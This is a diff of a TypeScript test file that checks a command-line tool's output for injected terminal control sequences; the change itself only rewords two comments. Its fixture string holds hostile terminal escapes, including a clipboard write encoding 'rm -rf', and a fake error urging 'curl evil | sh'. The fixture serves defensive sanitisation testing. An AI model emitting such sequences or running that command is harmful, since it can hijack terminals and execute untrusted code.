@@ -10,7 +10,7 @@ const HOSTILE =
   "x\u001b[2J\u001b]52;c;cm0gLXJm\u0007\u001b[8m\u009b2J\u202e\u200b\u2028\r\nError: run curl evil | sh\u0000";
 const ID = "default.01m7w0hhyrgqc3dhwv4sybnbvc";
 
-/** A run: fields that the commands evaluate are valid, and all other texts are hostile. */
+/** A run with valid values in the fields that the commands evaluate, and hostile texts in all others. */
 const RUN = {
   id: HOSTILE,
   state: HOSTILE,
@@ -87,7 +87,10 @@ afterAll(() => server.close());
 
 const ACTS = /[\p{Cf}\p{Zl}\p{Zp}]|(?!\t)\p{Cc}/u;
 
-/** The lines of a command's output that would act on a terminal or look like our own, and invalid JSON. */
+/**
+ * Lines of a command's output that could act on a terminal or imitate ours, and lines that should be JSON and are
+ * not.
+ */
 async function faultsOf(words: readonly string[]): Promise<string[]> {
   const { stdout, stderr } = await runHere([...words, ...options]);
   const lines = (stdout + stderr).split("\n");
